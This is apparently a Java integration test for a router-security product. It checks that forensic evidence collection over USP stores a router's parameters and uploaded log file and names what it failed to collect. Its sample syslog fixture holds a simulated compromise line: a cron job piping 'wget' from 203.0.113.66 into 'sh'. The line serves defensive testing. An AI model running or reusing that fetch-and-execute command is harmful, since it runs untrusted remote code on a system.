package io.homeshield.routers.usp;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import jakarta.inject.Inject;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

import io.homeshield.audit.Actor;
import io.homeshield.audit.AuditEntry;
import io.homeshield.enforcement.ActionState;
import io.homeshield.enforcement.EnforcementAction;
import io.homeshield.fleet.forensics.EvidenceDocument;
import io.homeshield.fleet.forensics.EvidenceSnapshot;
import io.homeshield.fleet.forensics.ForensicsConfig;
import io.homeshield.fleet.forensics.ForensicsService;
import io.homeshield.inventory.ManagementChannel;
import io.homeshield.inventory.Router;
import io.homeshield.routers.usp.proto.UspMsgProto.GetSupportedDM;
import io.homeshield.routers.usp.proto.UspMsgProto.Header.MsgType;
import io.homeshield.routers.usp.proto.UspMsgProto.Msg;
import io.homeshield.routers.usp.proto.UspMsgProto.Operate;
import io.homeshield.testsupport.Fixtures;
import io.homeshield.testsupport.Fixtures.TestHousehold;
import io.homeshield.testsupport.Lanes;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;

/**
 * Evidence from a USP router through the outbox and the dispatcher: the agent's supported top-level
 * objects each read with a Get, its vendor log file uploaded by the agent itself to HomeShield's
 * upload address, and what the agent could not give named in the snapshot.
 */
@QuarkusTest
@TestProfile(UspEnabledProfile.class)
@Tag(Lanes.BROKER)
class UspEvidenceTest {

    private static final Duration SOON = Duration.ofSeconds(60);
    private static final Actor ANA = new Actor("ana", "analyst");
    private static final String REASON = "Ticket SEC-12: the router's DNS server changed";
    private static final byte[] SYSLOG = (
            "Dec  7 03:01:12 hs-box dropbear[812]: Password auth succeeded for 'support'\n"
            + "Dec  7 03:01:40 hs-box crond[901]: (root) CMD (wget -q -O- http://203.0.113.66/x.sh | sh)\n")
            .getBytes(StandardCharsets.UTF_8);

    @Inject
    ForensicsService forensics;

    @Inject
    ForensicsConfig forensicsConfig;

    @Inject
    UspConfig config;

    @Inject
    UspController controller;

    private UspTestAgent agent;
    private TestHousehold home;

    @BeforeEach
    void uspRouter() throws Exception {
        String endpointId = UspTestSettings.agentEndpointId();
        agent = new UspTestAgent(config.brokerUrl(), endpointId,
                config.agentTopic().replace("{endpointId}", endpointId),
                config.controllerEndpointId(), config.controllerTopic());
        agent.model().put(AgentDataModel.DNS_SERVERS, Map.of("Enable", "true", "DNSServer", "203.0.113.66",
                "Interface", "Device.IP.Interface.1", "Status", "Enabled", "Type", "Static"));
        agent.start();
        await().atMost(SOON).until(() -> UspTestAgent.AGENT_VERSION.equals(controller.recordVersion(endpointId)));
        home = Fixtures.household("usp-evidence-" + endpointId);
        QuarkusTransaction.requiringNew().run(() -> {
            Router router = Router.findById(home.routerId());
            router.channel = ManagementChannel.USP;
            router.managementAddress = endpointId;
        });
    }

    @AfterEach
    void stopAgent() throws Exception {
        assertEquals(List.of(), agent.violations());
        agent.close();
        QuarkusTransaction.requiringNew().run(()
                -> Router.<Router>findById(home.routerId()).channel = ManagementChannel.SIMULATED);
    }

    @Test
    void theWholeDataModelAndTheUploadedLogFileAreStoredAndWhatTheAgentFailedToReadIsNamed() {
        agent.model().addVendorLogFile("syslog", SYSLOG);
        // The vendor layer cannot read one parameter: obuspa then answers the whole requested path with that error.
        agent.model().failReading("Device.DNS.Client.Server.1.Status", UspErrorReasons.INTERNAL_ERROR,
                "Failed to get Device.DNS.Client.Server.1.Status");

        EvidenceDocument document = collect();

        assertEquals("1.4.2", document.parameters().get("Device.DeviceInfo.SoftwareVersion"));
        assertEquals("hs-box-1.4.2", document.parameters().get("Device.DeviceInfo.FirmwareImage.1.Name"));
        assertEquals("syslog", document.parameters().get("Device.DeviceInfo.VendorLogFile.1.Name"));
        assertEquals(new String(SYSLOG, StandardCharsets.UTF_8), document.files().get("Vendor log file syslog"));
        assertEquals(List.of("Device.DNS.: the router could not read it (USP error 7003, \"Failed to get"
                + " Device.DNS.Client.Server.1.Status\").",
                "Configuration file: not asked for over USP (VendorConfigFile Backup() is not used)."),
                document.notCollected());
        assertTrue(document.parameters().keySet().stream().noneMatch(p -> p.startsWith("Device.DNS.")));

        GetSupportedDM topLevel = agent.requests(MsgType.GET_SUPPORTED_DM).stream()
                .map(m -> m.getBody().getRequest().getGetSupportedDm())
                .filter(r -> r.getObjPathsList().equals(List.of("Device."))).findFirst().orElseThrow();
        assertTrue(topLevel.getFirstLevelOnly(), "the top-level objects, not the whole schema");
        List<String> read = agent.requests(MsgType.GET).stream().flatMap(m -> m.getBody().getRequest().getGet()
                .getParamPathsList().stream()).toList();
        assertTrue(read.containsAll(List.of("Device.DeviceInfo.", "Device.Hosts.", "Device.DNS.",
                "Device.LocalAgent.")),
                "one Get per top-level object: " + read);
        List<Operate> commands = agent.requests(MsgType.OPERATE).stream().map(m
                -> m.getBody().getRequest().getOperate())
                .toList();
        assertEquals(List.of("Device.DeviceInfo.VendorLogFile.1.Upload()"),
                commands.stream().map(Operate::getCommand).toList(),
                "collecting evidence runs no other command");
        assertTrue(commands.get(0).getInputArgsOrThrow("URL").contains("/ingest/v1/evidence-uploads/"));
        assertEquals(List.of(204), agent.uploadStatuses());
        assertEquals(List.of(), agent.requests(MsgType.SET).stream().map(Msg::toString).toList(), "nothing changed");
    }

    @Test
    void aLogFileAboveTheUploadLimitIsRefusedAndNamedWhileTheRestIsStored() {
        byte[] huge = new byte[(int) forensicsConfig.uploadMaxBytes() + 10];
        Arrays.fill(huge, (byte) 'k');
        agent.model().addVendorLogFile("kernlog", huge);

        EvidenceDocument document = collect();

        assertEquals("1.4.2", document.parameters().get("Device.DeviceInfo.SoftwareVersion"));
        assertTrue(document.files().isEmpty());
        assertEquals("Vendor log file kernlog: the router's upload of " + huge.length + " bytes was refused, it exceeds"
                + " the upload limit of " + forensicsConfig.uploadMaxBytes() + " bytes.",
                        document.notCollected().get(0));
        assertEquals(List.of(413), agent.uploadStatuses());
    }

    private EvidenceDocument collect() {
        UUID action = QuarkusTransaction.requiringNew().call(() -> forensics.collect(home.routerId(), ANA, REASON).id);
        await().atMost(SOON).until(() -> QuarkusTransaction.requiringNew()
                .call(() -> EnforcementAction.<EnforcementAction>findById(action).state) == ActionState.VERIFIED);
        EvidenceSnapshot snapshot = QuarkusTransaction.requiringNew()
                .call(() -> EvidenceSnapshot.<EvidenceSnapshot>find("actionId", action).firstResult());
        assertEquals(ManagementChannel.USP.name(), snapshot.channel);
        assertTrue(QuarkusTransaction.requiringNew().call(() -> AuditEntry.<AuditEntry>list("action",
                "fleet.evidence-stored").stream().anyMatch(e -> e.reason != null
                        && e.reason.contains(snapshot.sha256))),
                "the snapshot's hash is in the audit log");
        return QuarkusTransaction.requiringNew().call(() -> forensics.document(snapshot));
    }
}
